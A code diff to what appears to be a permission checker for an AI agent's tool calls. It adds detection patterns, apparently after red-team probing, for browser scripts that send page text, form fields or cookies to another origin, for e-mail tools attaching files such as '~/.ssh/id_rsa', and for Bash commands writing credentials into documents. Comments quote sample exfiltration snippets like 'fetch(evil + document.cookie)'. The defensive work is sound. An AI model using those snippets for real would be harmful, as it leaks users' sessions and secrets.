@@ -171,7 +171,7 @@ _FILE_NAME = re.compile(r"/[^/.][^/]*\.[A-Za-z0-9]{1,6}$")
 # name built from a secret (published2)
 # a tool named for fetching a URL (mcp__fetch__fetch, mcp__x__http_request, read_url_content)
 _FETCH_TOOL = re.compile(r"(?i)fetch|http|request|url|navigate|brows|curl|scrape|crawl|download|get_?page")
-_NO_RULE_LIFTS = frozenset({"secret_stored", "name_carries_data"})
+_NO_RULE_LIFTS = frozenset({"secret_stored", "name_carries_data", "credential_sent"})
 _FIND_WRITES = frozenset({"-delete", "-fprint", "-fprint0", "-fprintf", "-fls",
                           # what -exec runs on the files find picks is not what Bash(cat:*) saw
                           "-exec", "-execdir", "-ok", "-okdir"})
@@ -454,6 +454,12 @@ _BROWSER_TOOL = re.compile(r"puppeteer|playwright|browser|chrome|selenium|webdri
 # and storageState(), the DevTools protocol's getAllCookies)
 _PAGE_SECRET = re.compile(r"document\s*\.\s*cookie|document\s*\[\s*['\"]cookie|localStorage|sessionStorage|indexedDB"
                           r"|credentials\s*\.\s*get|cookieStore|\.\s*cookies\s*\(|storageState\s*\(|get(?:All)?Cookies\b")
+# (probe round 36, exfil36) what else a page holds of the signed-in user: its own text and
+# markup, a form's fields (a password box), a response of the site's own API read in the
+# script; sent to another origin it is the session's data leaving, as a cookie is
+_PAGE_CONTENT = re.compile(r"outerHTML|innerHTML|innerText|textContent|new\s+FormData|document\s*\.\s*forms"
+                           r"|\.elements\b|type\s*=\s*\\?['\"]?password|\.value\b|getSelection")
+_PAGE_RESPONSE_READ = re.compile(r"\.(?:text|json|blob|arrayBuffer|formData)\s*\(\s*\)|responseText")
 _PAGE_SEND = re.compile(r"fetch\s*\(|XMLHttpRequest|sendBeacon|WebSocket|EventSource|\.src\s*=|\.href\s*="
                         r"|location\s*=|location\s*\.\s*(?:assign|replace)|window\s*\.\s*open|\.submit\s*\(|\.action\s*="
                         r"|import\s*\(|\$\.(?:ajax|get|post)|axios", re.I)
@@ -1781,7 +1787,9 @@ def args_text(args: Mapping[str, Any]) -> str:
 # argument names of other tools (MCP servers, custom tools) that hold a path
 _PATH_ARG_NAME = re.compile(r"(^|_)(path|paths|file|files|filename|filenames|filepath|filepaths|pathname|pathnames|"
                             r"fname|dir|directory|dest|destination|target|source|src|dst|output|input|location|folder|"
-                            r"link|uri)($|_)|path$|file$|dir$|pathname$|filename$", re.I)
+                            r"link|uri|attachment|attachments)($|_)|path$|file$|dir$|pathname$|filename$", re.I)
+# (probe round 36, exfil36: an e-mail tool's attachments, ["~/.ssh/id_rsa"] met the check and
+# [".env"], a bare name, did not)
 # keys that hold a path only when the value looks like one (a move's "from"/"to"; an
 # e-mail's "to" is an address)
 _LOOSE_PATH_KEY = re.compile(r"(^|_)(from|to)($|_)", re.I)
@@ -4372,6 +4380,15 @@ class _Evaluation:
             # (asked; BYPASS, which asks no one, lets a Bash write through as before: a
             # mode may only narrow what a wider one allows, and Bash's text is no Write)
             self.content_risk = later
+        if a is not None and a.parsed and a.write_paths and self.content_risk is None and mode != EXPLORE \
+                and any(_is_document(p) for p in a.write_paths) and may_hold_credential(self.command):
+            # (probe round 36, exfil36) a credential written into a document by Bash (echo
+            # 'AKIA...' >> notes.md, a here-document into docs/setup.md), as Write's is: a
+            # document is published
+            cred = credential_in(self.command)
+            if cred is not None:
+                self.content_risk = ("credential_in_document",
+                                     f"writes what looks like a credential ({cred}) into a document")
         if self.content_risk is not None and mode not in (BYPASS, EXPLORE):
             self.no_suggestions = True
             return self.content_ask()
@@ -5309,6 +5326,17 @@ class _Evaluation:
                 # a page script that reads the session's cookies or storage and makes a
                 # request (fetch(evil + document.cookie), an image's src, a beacon)
                 return _PAGE_SECRET.search(v).group(0)
+            if browser and "(" in v and _PAGE_URL_MAKERS.search(v) and _PAGE_SEND.search(v):
+                # (probe round 36, exfil36) ...or the page's text, a form's fields or a response
+                # of its own API, with a request to an address the script writes out (fetch(evil,
+                # {body: document.body.innerHTML}), a form's action set to another site and
+                # submitted, fetch('/api/me') then fetch(evil + t)); one request that reads its
+                # own answer (fetch('https://api...').then(r => r.json())) sends nothing it read
+                hit = _PAGE_CONTENT.search(v)
+                if hit is None and len(_PAGE_SEND.findall(v)) >= 2:
+                    hit = _PAGE_RESPONSE_READ.search(v)
+                if hit is not None:
+                    return hit.group(0)
         return None
 
     @property
